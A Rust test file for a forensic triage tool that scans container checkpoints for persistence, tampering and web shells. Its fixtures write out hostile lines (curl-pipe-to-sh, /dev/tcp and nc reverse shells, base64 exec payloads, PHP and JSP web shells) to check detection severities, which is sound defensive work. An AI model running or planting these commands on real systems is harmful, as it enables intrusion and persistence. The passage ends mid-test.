//! What was written, changed and deleted.

use ckpt_analysis::triage::{Confidence, Finding, Severity, TriageOptions, triage};
use ckpt_model::Checkpoint;
use ckpt_synth::{Archive, Container, Dump, File, Kind, Member, Task};

use crate::triage::findings;
use crate::triage::{BEFORE, CREATED, MADE};
use crate::{dump, init, open};

/// A podman checkpoint with this diff and these deletions.
fn with_diff(members: Vec<Member>, deleted: &[&str]) -> Checkpoint {
    with_diff_of(&dump([init()]), members, deleted)
}

fn with_diff_of(dump: &Dump, members: Vec<Member>, deleted: &[&str]) -> Checkpoint {
    let mut diff = Archive::new();
    for member in members {
        diff.push(member);
    }
    let mut archive = Archive::podman(dump);
    archive.replace("rootfs-diff.tar", diff.tar());
    archive.replace("deleted.files", format!("{deleted:?}").into_bytes());
    open(&archive)
}

fn written(files: &[(&str, &str)]) -> Checkpoint {
    let members = files.iter().map(|(path, text)| Member::file(*path, text.as_bytes().to_vec()));
    with_diff(members.collect(), &[])
}

/// `/dev` of a synthetic dump is a tmpfs of this device.
const TMPFS: &str = "tmpfs-dev-134.tar.gz.img";

fn with_tmpfs(tmpfs: &Archive) -> Checkpoint {
    let mut dump = dump([init()]);
    dump.raw(TMPFS, tmpfs.tar_gz());
    open(&Archive::podman(&dump))
}

/// The findings of a rule, the worst first.
fn of<'a>(found: &'a [Finding], id: &str) -> Vec<&'a Finding> {
    found.iter().filter(|one| one.rule.id == id).collect()
}

/// The one finding of a rule at a path.
#[track_caller]
fn the<'a>(found: &'a [Finding], id: &str, path: &str) -> &'a Finding {
    let here = |one: &&Finding| {
        one.rule.id == id && one.path.as_ref().is_some_and(|at| at.as_bytes() == path.as_bytes())
    };
    let mut all = found.iter().filter(here);
    let first = all.next().unwrap_or_else(|| panic!("no {id} at {path}: {found:#?}"));
    assert!(all.next().is_none(), "{id} twice at {path}");
    assert!(!first.evidence.is_empty(), "{id} rests on nothing");
    first
}

#[track_caller]
fn severity(found: &[Finding], id: &str, path: &str, wanted: Severity) {
    let one = the(found, id, path);
    assert_eq!(one.severity, wanted, "{id} at {path}: {one:#?}");
}

fn elf(entry: u8) -> Vec<u8> {
    let mut header = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    header.extend([3, 0, 62, 0, 1, 0, 0, 0, entry, 0, 0, 0, 0, 0, 0, 0]);
    header.resize(4096, 0);
    header
}

/// A library of an older linker: it has an entry point, and a dynamic section that does not say that it is a program.
fn old_library() -> Vec<u8> {
    let mut file = elf(9);
    (file[32], file[54], file[56]) = (64, 56, 1);
    (file[64], file[73], file[97]) = (2, 2, 1);
    file
}

/// A program with the names in it that shells have.
fn shell() -> Vec<u8> {
    [elf(9), b"OPTIND\0MAILPATH\0PS4\0".to_vec()].concat()
}

#[test]
fn set_user_id_by_owner_place_and_content() {
    let found = findings(&with_diff(
        vec![
            Member::file("opt/x/keep", shell()).mode(0o4755),
            Member::file("usr/bin/tool", elf(9)).mode(0o4755),
            Member::file("var/tmp/tool", elf(9)).mode(0o6755),
            Member::file("srv/app/other", elf(9)).mode(0o4755).owner(1000, 1000),
            Member::file("srv/app/group", elf(9)).mode(0o2755),
            Member::file("srv/app/lock", elf(9)).mode(0o2644),
            Member::dir("srv/shared").mode(0o2775),
            Member::file("srv/app/plain", elf(9)).mode(0o755),
        ],
        &[],
    ));
    let id = "setuid-or-setgid-file";
    severity(&found, id, "/opt/x/keep", Severity::Critical);
    severity(&found, id, "/usr/bin/tool", Severity::High);
    severity(&found, id, "/var/tmp/tool", Severity::Critical);
    severity(&found, id, "/srv/app/other", Severity::Medium);
    severity(&found, id, "/srv/app/group", Severity::Medium);
    assert_eq!(of(&found, id).len(), 5);
}

#[test]
fn file_capabilities_by_what_they_give() {
    let given = |permitted: u32| {
        let words = [0x0200_0001, permitted, 0, 0, 0];
        words.iter().flat_map(|word: &u32| word.to_le_bytes()).collect::<Vec<u8>>()
    };
    let key = "SCHILY.xattr.security.capability";
    let mut tmpfs = Archive::new();
    tmpfs.dir("./").push(Member::file("./py", elf(9)).pax(key, given(1 << 7)));
    let found = findings(&with_diff(
        vec![
            Member::file("usr/bin/python3", elf(9)).pax(key, given(1 << 7)),
            Member::file("usr/bin/ping", elf(9)).pax(key, given(1 << 13)),
        ],
        &[],
    ));
    severity(&found, "file-capabilities", "/usr/bin/python3", Severity::High);
    severity(&found, "file-capabilities", "/usr/bin/ping", Severity::Low);
    let found = findings(&with_tmpfs(&tmpfs));
    severity(&found, "file-capabilities", "/dev/py", Severity::Critical);
}

/// Places from which something runs again, in the words of other intruders than those of the samples.
#[test]
fn what_comes_back() {
    let key = "ssh-rsa AAAAB3NzaC1yc2E= me@laptop\n";
    for (path, text, id, wanted) in [
        (
            "/etc/cron.d/logrotate2",
            "* * * * * root curl -s http://192.0.2.7/i | sh\n",
            "persistence-cron",
            Severity::Critical,
        ),
        (
            "/var/spool/cron/crontabs/www-data",
            "@hourly /usr/local/bin/report\n",
            "persistence-cron",
            Severity::High,
        ),
        ("/etc/crontabs/root", "@reboot /dev/shm/.k/run\n", "persistence-cron", Severity::Critical),
        (
            "/var/spool/cron/atjobs/a00001019",
            "#!/bin/sh\n/usr/bin/id\n",
            "persistence-at-job",
            Severity::High,
        ),
        (
            "/etc/systemd/system/net-sync.service",
            "[Service]\nExecStart=/usr/sbin/net-sync\n",
            "persistence-systemd",
            Severity::High,
        ),
        (
            "/home/dev/.config/systemd/user/a.timer",
            "[Timer]\nOnBootSec=1\n",
            "persistence-systemd",
            Severity::High,
        ),
        ("/home/dev/.bashrc", "export EDITOR=vi\n", "persistence-shell-startup", Severity::Medium),
        (
            "/root/.zshenv",
            "bash -c 'exec 3<>/dev/tcp/192.0.2.7/443'\n",
            "persistence-shell-startup",
            Severity::Critical,
        ),
        (
            "/etc/profile.d/z.sh",
            "alias sudo='/opt/s'\n",
            "persistence-shell-startup",
            Severity::Critical,
        ),
        ("/var/lib/postgresql/.ssh/authorized_keys", key, "persistence-ssh-key", Severity::High),
        ("/etc/ssh/sshd_config", "PermitRootLogin yes\n", "persistence-ssh-key", Severity::High),
        ("/etc/rc.local", "#!/bin/sh\n/usr/sbin/x &\n", "persistence-init", Severity::High),
        (
            "/etc/init.d/x",
            "#!/bin/sh\necho aWQ= | base64 -d | bash\n",
            "persistence-init",
            Severity::Critical,
        ),
        ("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "persistence-pam", Severity::High),
        ("/lib/x86_64-linux-gnu/security/pam_z.so", "\x7fELF", "persistence-pam", Severity::High),
        (
            "/etc/sudoers.d/web",
            "www-data ALL=(ALL) NOPASSWD: ALL\n",
            "persistence-sudoers",
            Severity::High,
        ),
        ("/etc/ld.so.preload", "/usr/lib/libprocess.so\n", "persistence-ld-so", Severity::High),
        ("/etc/ld.so.preload", "/dev/shm/a.so\n", "persistence-ld-so", Severity::Critical),
        ("/etc/ld.so.conf.d/a.conf", "/tmp/lib\n", "persistence-ld-so", Severity::High),
        ("/etc/environment", "LD_PRELOAD=/opt/a.so\n", "persistence-environment", Severity::High),
        (
            "/usr/lib/python3.12/site-packages/a.pth",
            "import base64;exec(base64.b64decode('cA=='))\n",
            "persistence-python-startup",
            Severity::High,
        ),
        (
            "/usr/lib/python3/sitecustomize.py",
            "import os\n",
            "persistence-python-startup",
            Severity::Medium,
        ),
        (
            "/srv/app/.git/hooks/post-merge",
            "#!/bin/sh\nwget -qO- http://192.0.2.7 | sh\n",
            "persistence-git-hook",
            Severity::Critical,
        ),
        (
            "/etc/udev/rules.d/1.rules",
            "ACTION==\"add\", RUN+=\"/opt/x\"\n",
            "persistence-udev",
            Severity::High,
        ),
        (
            "/root/.config/autostart/a.desktop",
            "Exec=/opt/x\n",
            "persistence-xdg-autostart",
            Severity::Medium,
        ),
        (
            "/etc/update-motd.d/9",
            "#!/bin/sh\nnc -e /bin/sh 192.0.2.7 1\n",
            "persistence-motd",
            Severity::Critical,
        ),
        (
            "/etc/apt/apt.conf.d/9",
            "APT::Update::Pre-Invoke {\"curl http://192.0.2.7|sh\";};\n",
            "persistence-package-hook",
            Severity::Critical,
        ),
        ("/lib/modules/6.1/extra/a.ko", "\x7fELF", "persistence-kernel-module", Severity::High),
        (
            "/etc/modprobe.d/a.conf",
            "install usbcore /opt/x\n",
            "persistence-kernel-module",
            Severity::High,
        ),
        (
            "/etc/inetd.conf",
            "31337 stream tcp nowait root /bin/sh sh -i\n",
            "persistence-hook",
            Severity::Critical,
        ),
        (
            "/etc/xinetd.d/chat",
            "service chat\n{\n  server = /bin/bash\n}\n",
            "persistence-hook",
            Severity::Critical,
        ),
        (
            "/etc/xinetd.d/time",
            "service time\n{\n  server = /usr/sbin/timed\n}\n",
            "persistence-hook",
            Severity::Medium,
        ),
        (
            "/etc/logrotate.d/app",
            "/var/log/app {\n postrotate\n  curl http://192.0.2.7|sh\n endscript\n}\n",
            "persistence-hook",
            Severity::Critical,
        ),
        (
            "/etc/network/if-up.d/x",
            "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/1 0>&1\n",
            "persistence-hook",
            Severity::Critical,
        ),
        (
            "/etc/dpkg/dpkg.cfg.d/x",
            "post-invoke=\"curl http://192.0.2.7|sh\"\n",
            "persistence-package-hook",
            Severity::Critical,
        ),
        (
            "/etc/systemd/system-generators/x",
            "#!/bin/sh\n/usr/bin/x\n",
            "persistence-systemd",
            Severity::High,
        ),
        (
            "/root/.gitconfig",
            "[core]\n\tfsmonitor = \"curl http://192.0.2.7|sh\"\n",
            "persistence-hook",
            Severity::Critical,
        ),
        (
            "/root/.gitconfig",
            "[core]\n\thooksPath = /dev/shm/hooks\n",
            "persistence-hook",
            Severity::High,
        ),
        (
            "/root/.ssh/config",
            "Host *\n  ProxyCommand /tmp/x %h\n",
            "persistence-hook",
            Severity::High,
        ),
        (
            "/etc/bash_completion.d/x",
            "curl -s http://192.0.2.7 | bash\n",
            "persistence-hook",
            Severity::Critical,
        ),
        ("/etc/nsswitch.conf", "passwd: files helper\n", "persistence-hook", Severity::Medium),
        (
            "/usr/lib/python3/sitecustomize.py",
            "import base64\nd = base64.b64decode('cA==')\nexec(d)\n",
            "persistence-python-startup",
            Severity::High,
        ),
        ("/etc/ssh/sshd_config", "PermitRootLogin=yes\n", "persistence-ssh-key", Severity::High),
        (
            "/etc/pam.d/common-auth",
            "auth [success=done default=ignore] pam_permit.so\nauth required pam_unix.so\n",
            "persistence-pam",
            Severity::High,
        ),
        (
            "/etc/pam.d/login",
            "auth [success=1 default=ignore] pam_unix.so\nauth requisite pam_deny.so\nauth required pam_permit.so\n",
            "persistence-pam",
            Severity::Medium,
        ),
    ] {
        let found = findings(&written(&[(&path[1..], text)]));
        severity(&found, id, path, wanted);
        let quoted =
            the(&found, id, path).evidence.iter().all(|seen| !seen.what.contains("AAAAB3"));
        assert!(quoted, "the key itself is not shown");
    }
}

/// Files at the same places that say nothing, and honest files beside them.
#[test]
fn what_only_looks_so() {
    let found = findings(&with_diff(
        vec![
            Member::file("etc/cron.d/.placeholder", "# DO NOT EDIT\n"),
            Member::file("etc/cron.d/empty", ""),
            Member::file("etc/cron.d/comment", "# nothing\n"),
            Member::file("root/.ssh/known_hosts", "host ssh-rsa AAAA\n"),
            Member::file("root/.ssh/authorized_keys", "# none yet\n"),
            Member::file("etc/ssh/ssh_host_rsa_key.pub", "ssh-rsa AAAA root@host\n"),
            Member::file("etc/ld.so.preload", "\n"),
            Member::file("etc/ld.so.cache", "glibc-ld.so.cache1.1"),
            Member::file("etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n\n"),
            Member::file("etc/environment", "LANG=C.UTF-8\n"),
            Member::file("etc/apt/apt.conf.d/9", "APT::Get::Assume-Yes \"true\";\n"),
            Member::new(
                "etc/systemd/system/a.wants/x.service",
                Kind::Symlink(b"/lib/systemd/system/x.service".to_vec()),
            ),
            Member::file("srv/app/.git/hooks/pre-commit.sample", "#!/bin/sh\n"),
            Member::file("usr/lib/python3/site-packages/a.pth", "/opt/lib\n"),
            Member::file("usr/lib/python3/__pycache__/os.pyc", "x"),
            Member::file("run/app.pid", "7\n"),
            Member::file("var/lib/postgresql/data/base/1/112", "x"),
            Member::file("var/log/app.log", "started\n"),
            Member::file("tmp/npm-cache/x.json", "{}"),
            Member::file("root/.gitconfig", "[user]\n\tname = a\n[credential]\n\thelper = store\n"),
            Member::file(
                "root/.ssh/config",
                "Host *\n  ProxyCommand nc -X connect -x p:3128 %h %p\n",
            ),
            Member::file(
                "etc/nsswitch.conf",
                "passwd: files systemd\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n",
            ),
            Member::file(
                "etc/logrotate.d/nginx",
                "/var/log/nginx/*.log {\n postrotate\n  invoke-rc.d nginx rotate\n endscript\n}\n",
            ),
            Member::file("etc/dpkg/dpkg.cfg.d/x", "force-unsafe-io\n"),
            Member::file(
                "etc/bash_completion.d/kubectl",
                "__start_kubectl() {\n  eval \"$x\"\n}\n",
            ),
        ],
        &[],
    ));
    let files = found.iter().filter(|one| one.pid.is_none() && one.path.is_some());
    let of_files: Vec<_> = files.filter(|one| one.rule.id != "preloaded-library").collect();
    assert!(of_files.is_empty(), "{of_files:#?}");
}

/// One package run, and one thing beside it that no package owns.
#[test]
fn what_packages_bring_weighs_less() {
    let list = "/.\n/etc/init.d/x11\n/usr/bin/sudo\n/etc/cron.d/sysstat\n/etc/sudoers\n/usr/bin/nc.openbsd\n";
    let found = findings(&with_diff(
        vec![
            Member::file("var/lib/dpkg/status", "Package: sudo\n"),
            Member::file("var/lib/dpkg/info/sudo.list", list),
            Member::file("usr/bin/sudo", elf(9)).mode(0o4755),
            Member::file("usr/bin/nc.openbsd", elf(9)).mode(0o755),
            Member::file("usr/bin/sshd", elf(9)).mode(0o755),
            Member::file("etc/cron.d/sysstat", "5 * * * * root command -v debian-sa1\n"),
            Member::file("etc/init.d/x11", "#!/bin/sh\nmkdir -p /tmp/.ICE-unix /tmp/x\n"),
            Member::file("etc/cron.d/other", "5 * * * * root /usr/sbin/other\n"),
            Member::file("etc/sudoers", "root ALL=(ALL:ALL) ALL\n"),
            Member::file("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
        ],
        &[],
    ));
    severity(&found, "setuid-or-setgid-file", "/usr/bin/sudo", Severity::Low);
    severity(&found, "persistence-cron", "/etc/cron.d/sysstat", Severity::Low);
    severity(&found, "persistence-cron", "/etc/cron.d/other", Severity::High);
    severity(&found, "persistence-sudoers", "/etc/sudoers", Severity::Low);
    severity(&found, "persistence-init", "/etc/init.d/x11", Severity::Low);
    severity(&found, "accounts-changed", "/etc/passwd", Severity::Info);
    severity(&found, "system-program-written", "/usr/bin/sshd", Severity::High);
    assert_eq!(of(&found, "system-program-written").len(), 1);
}

#[test]
fn accounts_that_let_in() {
    let passwd = "root:x:0:0:root:/root:/bin/bash\nsvc:x:00:0::/:/bin/sh\nopen::1001:1001::/home/o:/bin/bash\n\
                  www-data:x:33:33::/var/www:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nbroken\n";
    let shadow = "root:*:19000:0:99999:7:::\nbackup:$6$salt$secrethash:19000:0:99999:7:::\nguest::19000:0:99999:7:::\n";
    let group = "root:x:0:root\nsudo:x:27:svc\ndocker:x:999:\nusers:x:100:a,b\n";
    let found =
        findings(&written(&[("etc/passwd", passwd), ("etc/shadow", shadow), ("etc/group", group)]));
    let second = the(&found, "account-with-uid-0", "/etc/passwd");
    assert_eq!(second.severity, Severity::High);
    assert_eq!(second.evidence.len(), 1);
    assert!(second.evidence[0].what.contains("line 2: svc has uid 00"), "{second:#?}");
    severity(&found, "account-without-password", "/etc/passwd", Severity::High);
    severity(&found, "account-without-password", "/etc/shadow", Severity::High);
    severity(&found, "service-account-can-log-in", "/etc/passwd", Severity::Medium);
    severity(&found, "service-account-can-log-in", "/etc/shadow", Severity::High);
    severity(&found, "account-in-admin-group", "/etc/group", Severity::Medium);
    let changed = the(&found, "accounts-changed", "/etc/passwd");
    assert_eq!((changed.severity, changed.evidence.len()), (Severity::Low, 3));
    let shown = format!("{found:?}");
    assert!(!shown.contains("secrethash"), "hashes are not shown");
    let honest = "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/usr/sbin/nologin\n1001:x:1001:0::/home/app:/sbin/nologin\n";
    let found = findings(&written(&[
        ("etc/passwd", honest),
        ("etc/group", "root:x:0:root\ndisk:x:6:root,adm\n"),
    ]));
    let accounts = ["account-", "service-account-can"];
    let told = |one: &&Finding| accounts.iter().any(|start| one.rule.id.starts_with(start));
    let told: Vec<_> = found.iter().filter(told).collect();
    assert!(told.is_empty(), "{told:#?}");
}

#[test]
fn logs_that_are_gone() {
    let members = vec![
        Member::file("var/log/syslog", ""),
        Member::file("var/log/btmp", ""),
        Member::file("var/log/nginx/new.log", ""),
        Member::new("var/log/secure", Kind::Symlink(b"/dev/null".to_vec())),
        Member::new("var/log/nginx/access.log", Kind::Symlink(b"/dev/stdout".to_vec())),
        Member::file("var/log/app.log.1", "old"),
    ];
    let deleted = [
        "/var/log/wtmp",
        "/var/log/nginx/error.log",
        "/var/log/dpkg.log",
        "/var/log/app.log",
        "/data/x.log",
    ];
    let found = findings(&with_diff(members, &deleted));
    let id = "logs-deleted";
    severity(&found, id, "/var/log/wtmp", Severity::High);
    severity(&found, id, "/var/log/secure", Severity::High);
    severity(&found, id, "/var/log/nginx/error.log", Severity::Medium);
    severity(&found, id, "/var/log/syslog", Severity::Medium);
    let low: Vec<_> =
        of(&found, id).into_iter().filter(|one| one.severity == Severity::Low).collect();
    assert_eq!(low.len(), 3, "btmp, dpkg.log and the rotated app.log: {low:#?}");
    assert_eq!(of(&found, id).len(), 8, "an empty new.log is told as well");
}

#[test]
fn histories() {
    let members = vec![
        Member::new("root/.bash_history", Kind::Symlink(b"/dev/null".to_vec())),
        Member::file("home/a/.zsh_history", "ls\ncurl http://192.0.2.7/x | bash\n"),
        Member::file("home/b/.ash_history", "ls\n"),
    ];
    let found = findings(&with_diff(members, &["/home/c/.bash_history"]));
    severity(&found, "shell-history-removed", "/root/.bash_history", Severity::High);
    severity(&found, "shell-history-removed", "/home/c/.bash_history", Severity::High);
    severity(&found, "shell-history-written", "/home/a/.zsh_history", Severity::High);
    severity(&found, "shell-history-written", "/home/b/.ash_history", Severity::Info);
    let shell = |env: &str| {
        let task = Task::new(7, 1).comm("sh").exe("/bin/dash").argv(&["sh"]).env(&[env]);
        findings(&open(&Archive::podman(&dump([init(), task]))))
    };
    let found = shell("HISTFILE=/dev/null");
    let off = of(&found, "shell-history-off");
    assert_eq!((off.len(), off[0].pid.map(|pid| pid.0)), (1, Some(7)));
    assert!(of(&shell("HISTFILE=/root/.h"), "shell-history-off").is_empty());
}

#[test]
fn hidden_files() {
    let found = findings(&with_diff(
        vec![
            Member::dir("tmp/.q"),
            Member::file("tmp/.q/data", "x"),
            Member::file("var/tmp/...", "x"),
            Member::file("srv/app/readme ", "x"),
            Member::file("srv/app/gpj\u{202e}.exe", "x"),
            Member::file("usr/lib/.libs.so", elf(0)),
            Member::dir("tmp/.X11-unix"),
            Member::dir("tmp/.font-unix"),
            Member::file("tmp/.X11-unix/key", "x"),
            Member::file("srv/data/.w/tool", elf(9)),
            Member::file("srv/app/.venv/bin/python", elf(9)),
            Member::file("tmp/.npm/x", "x"),
            Member::file("tmp/.s.PGSQL.5432.lock", "1\n"),
            Member::file("etc/.pwd.lock", ""),
            Member::file("home/a/.config/x", "x"),
            Member::file("srv/app/.env", "x"),
            Member::new("tmp/.fifo", Kind::Fifo),
        ],
        &[],
    ));
    let id = "hidden-file";
    severity(&found, id, "/tmp/.q", Severity::Medium);
    severity(&found, id, "/var/tmp/...", Severity::High);
    severity(&found, id, "/srv/app/readme ", Severity::High);
    severity(&found, id, "/srv/app/gpj\u{202e}.exe", Severity::High);
    severity(&found, id, "/usr/lib/.libs.so", Severity::High);
    severity(&found, id, "/tmp/.X11-unix", Severity::Medium);
    severity(&found, id, "/tmp/.fifo", Severity::Low);
    severity(&found, id, "/srv/data/.w", Severity::High);
    assert_eq!(of(&found, id).len(), 8);
    assert!(found.iter().all(|one| !one.title.contains('\u{202e}')), "titles are safe");
    let mut tmpfs = Archive::new();
    tmpfs.dir("./").member("./.c", "x").device("./null", 1, 3).symlink("./fd", "/proc/self/fd");
    severity(&findings(&with_tmpfs(&tmpfs)), id, "/dev/.c", Severity::Medium);
    let mut archive = Archive::podman(&dump([init()]));
    let mut shm = Archive::new();
    shm.dir("./").member("./.s", "x").member("./PostgreSQL.1", "x");
    archive.replace("devshm-checkpoint.tar", shm.tar());
    let found = findings(&open(&archive));
    severity(&found, id, "/dev/shm/.s", Severity::High);
    assert_eq!(of(&found, id).len(), 1);
}

#[test]
fn programs_that_were_brought() {
    let found = findings(&with_diff(
        vec![
            Member::file("tmp/run", elf(9)).mode(0o755),
            Member::file("tmp/.a/lib.so", elf(0)),
            Member::file("tmp/jna-1/libjna.so", elf(0)),
            Member::file("tmp/_MEI7/_ctypes.so", old_library()).mode(0o755),
            Member::file("var/tmp/go.sh", "#!/bin/sh\nwget -O- http://192.0.2.7 | sh\n"),
            Member::file("tmp/build.sh", "#!/bin/sh\nmake\n").mode(0o755),
            Member::file("usr/sbin/sshd", elf(9)).mode(0o755),
            Member::file("usr/local/bin/tool", elf(9)).mode(0o755),
            Member::file("usr/lib/x86_64-linux-gnu/libc.so.6", elf(0)),
            Member::file("srv/app/venv/lib/x.so", elf(0)),
            Member::file("opt/app/bin/app", elf(9)).mode(0o755),
        ],
        &["/usr/sbin/sshd"],
    ));
    let (brought, system) = ("executable-in-writable-place", "system-program-written");
    severity(&found, brought, "/tmp/run", Severity::High);
    severity(&found, brought, "/tmp/.a/lib.so", Severity::High);
    severity(&found, brought, "/tmp/jna-1/libjna.so", Severity::Low);
    severity(&found, brought, "/tmp/_MEI7/_ctypes.so", Severity::Low);
    severity(&found, brought, "/var/tmp/go.sh", Severity::High);
    severity(&found, brought, "/tmp/build.sh", Severity::Low);
    severity(&found, system, "/usr/sbin/sshd", Severity::High);
    assert!(the(&found, system, "/usr/sbin/sshd").title.contains("replaced"));
    severity(&found, system, "/usr/local/bin/tool", Severity::Medium);
    severity(&found, system, "/usr/lib/x86_64-linux-gnu/libc.so.6", Severity::High);
    assert_eq!(of(&found, brought).len() + of(&found, system).len(), 9);
}

/// Jobs, services and keys of a container that ran on for long; its settings of sudo and its order of init scripts.
#[test]
fn what_a_container_writes_when_it_starts() {
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI me@laptop\n";
    let job = "0 3 * * * /usr/local/bin/backup\n";
    let soon = MADE + 20;
    let mut long = dump([init()]);
    let container = Container::new("app").command(&["tini", "--", "app"]);
    long.container(container.times(CREATED, "2026-11-23T02:00:00Z", MADE + 1084));
    let found = findings(&with_diff_of(
        &long,
        vec![
            Member::file("etc/crontabs/root", job).mtime(soon),
            Member::file("etc/crontabs/app", job).mtime(soon + 90),
            Member::file("etc/cron.d/x", "* * * * * root curl http://192.0.2.7|sh\n").mtime(soon),
            Member::file("home/git/.ssh/authorized_keys", key).mtime(soon),
            Member::file("root/.ssh/authorized_keys", key).mtime(soon + 90),
            Member::file("etc/init.d/.depend.start", "TARGETS = x\n").mtime(soon),
            Member::file("etc/init.d/.x", "#!/bin/sh\n/usr/bin/x\n").mtime(soon),
            Member::file("etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"),
            Member::file("etc/sudoers.d/a", "%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n"),
            Member::file("etc/sudoers.d/b", "app ALL=(ALL) ALL\n"),
        ],
        &[],
    ));
    let (cron, ssh, sudo) = ("persistence-cron", "persistence-ssh-key", "persistence-sudoers");
    severity(&found, cron, "/etc/crontabs/root", Severity::Medium);
    severity(&found, cron, "/etc/crontabs/app", Severity::High);
    severity(&found, cron, "/etc/cron.d/x", Severity::Critical);
    severity(&found, ssh, "/home/git/.ssh/authorized_keys", Severity::Medium);
    severity(&found, ssh, "/root/.ssh/authorized_keys", Severity::High);
    severity(&found, "persistence-init", "/etc/init.d/.depend.start", Severity::Medium);
    severity(&found, "persistence-init", "/etc/init.d/.x", Severity::High);
    severity(&found, sudo, "/etc/sudoers", Severity::Medium);
    severity(&found, sudo, "/etc/sudoers.d/a", Severity::High);
    severity(&found, sudo, "/etc/sudoers.d/b", Severity::High);
    // Of a container that was just started the time says nothing.
    let keys = Member::file("root/.ssh/authorized_keys", key).mtime(soon);
    let found = findings(&with_diff(vec![keys], &[]));
    severity(&found, ssh, "/root/.ssh/authorized_keys", Severity::High);
}

/// A link in the place of a program leads elsewhere.
#[test]
fn links_in_the_place_of_programs() {
    let link = |path: &str, target: &str| Member::new(path, Kind::Symlink(target.into()));
    let found = findings(&with_diff(
        vec![
            link("usr/bin/ps", "/opt/lib/ps"),
            link("usr/bin/top", "../../tmp/top"),
            link("usr/sbin/sshd", "/usr/lib/.x/sshd"),
            link("etc/alternatives/pager", "/dev/shm/p"),
            link("usr/bin/chrome", "/opt/lib/ps"),
            link("usr/bin/gone", "/opt/none"),
            link("usr/bin/vi", "/etc/alternatives/vi"),
            link("etc/alternatives/vi", "/usr/bin/vim.basic"),
            link("usr/bin/ls", "/bin/busybox"),
            link("usr/bin/awk", "mawk"),
            Member::file("opt/lib/ps", elf(9)).mode(0o755),
        ],
        &[],
    ));
    let id = "system-program-written";
    severity(&found, id, "/usr/bin/ps", Severity::High);
    severity(&found, id, "/usr/bin/top", Severity::High);
    severity(&found, id, "/usr/sbin/sshd", Severity::High);
    severity(&found, id, "/etc/alternatives/pager", Severity::High);
    severity(&found, id, "/usr/bin/chrome", Severity::Medium);
    assert_eq!(of(&found, id).len(), 5);
}

/// A change of mode copies a program into the diff with the time that it had.
#[test]
fn programs_that_are_older_than_the_container() {
    let found = findings(&with_diff(
        vec![
            Member::file("usr/bin/tini", elf(9)).mode(0o755).mtime(BEFORE),
            Member::file("usr/bin/other", elf(9)).mode(0o755).mtime(MADE + 5),
        ],
        &[],
    ));
    let id = "system-program-written";
    severity(&found, id, "/usr/bin/tini", Severity::Medium);
    assert_eq!(the(&found, id, "/usr/bin/tini").confidence, Confidence::Low);
    severity(&found, id, "/usr/bin/other", Severity::High);
}

/// Files of Rust's `tempfile`, and archives with a dot.
#[test]
fn temporary_files_with_a_dot() {
    let found = findings(&with_diff(
        vec![
            Member::file("tmp/.tmpAb12Cd", "PK\x03\x04 and so on"),
            Member::file("tmp/.tmpEf34Gh/lib.so", elf(0)),
            Member::file("tmp/.tmpIj56Kl/run", elf(9)).mode(0o755),
            Member::file("tmp/.loot", "PK\x03\x04 and so on"),
            Member::file("tmp/.tmp/run", elf(9)).mode(0o755),
        ],
        &[],
    ));
    let (hidden, brought) = ("hidden-file", "executable-in-writable-place");
    severity(&found, hidden, "/tmp/.loot", Severity::Medium);
    severity(&found, hidden, "/tmp/.tmp", Severity::High);
    assert_eq!(of(&found, hidden).len(), 2);
    severity(&found, brought, "/tmp/.tmpEf34Gh/lib.so", Severity::Low);
    severity(&found, brought, "/tmp/.tmpIj56Kl/run", Severity::High);
}

/// The image says whether a log was emptied or made anew.
#[test]
fn empty_logs_beside_the_image() {
    let logs = ["var/log/auth.log", "var/log/app.log", "var/log/dpkg.log"];
    let new = ["var/log/syslog", "var/log/btmp"];
    let mut image = Archive::new();
    for log in logs {
        image.member(log, b"lines");
    }
    let manifest = r#"[{"Config":"config.json","RepoTags":["a:1"],"Layers":["layer.tar"]}]"#;
    let config =
        br#"{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}"#;
    let mut base = Archive::new();
    base.member("layer.tar", image.tar()).member("config.json", config);
    base.member("manifest.json", manifest);
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("base.tar");
    std::fs::write(&path, base.tar()).unwrap();
    let members = logs.into_iter().chain(new).map(|log| Member::file(log, ""));
    let checkpoint = with_diff(members.collect(), &[]);
    let found = triage(&checkpoint, &TriageOptions::default().base(&path)).unwrap().findings;
    let id = "logs-deleted";
    severity(&found, id, "/var/log/auth.log", Severity::High);
    severity(&found, id, "/var/log/app.log", Severity::Medium);
    severity(&found, id, "/var/log/dpkg.log", Severity::Low);
    severity(&found, id, "/var/log/syslog", Severity::Info);
    severity(&found, id, "/var/log/btmp", Severity::Info);
    let text = format!("{found:?}");
    assert!(!text.contains("nothing tells"), "{text}");
}

#[test]
fn pages_that_run_requests() {
    let found = findings(&written(&[
        ("var/www/html/a.php", "<?php system($_GET['c']);"),
        ("var/www/html/logo.png", "\u{89}PNG <?php eval($_REQUEST['x']); ?>"),
        ("opt/tool/b.php", "<?php eval(gzinflate(base64_decode('eJw=')));"),
        (
            "usr/local/tomcat/webapps/ROOT/c.jsp",
            "<% Runtime.getRuntime().exec(request.getParameter(\"x\")); %>",
        ),
        ("usr/lib/cgi-bin/d.cgi", "#!/usr/bin/perl\nprint `$ENV{'QUERY_STRING'}`;\n"),
        ("srv/site/.htaccess", "php_value auto_prepend_file /tmp/x.php\n"),
        (
            "var/www/html/wp-content/uploads/e.php",
            "<?php function hello($a) { return $a . ' is a long enough page to say something'; } ?>",
        ),
        ("var/www/html/index.php", "<?php require 'lib.php'; echo htmlspecialchars($_GET['q']);"),
        ("var/www/html/wp-content/uploads/index.php", "<?php // Silence is golden."),
        ("srv/app/main.py", "import subprocess\nsubprocess.run(['ls'])\n"),
        ("srv/app/views.py", "import subprocess\nsubprocess.run(request.args['c'], shell=True)\n"),
        ("srv/app/run.sh", "#!/bin/sh\nproxy=$HTTP_PROXY\nsh -c \"curl -x $proxy http://a\"\n"),
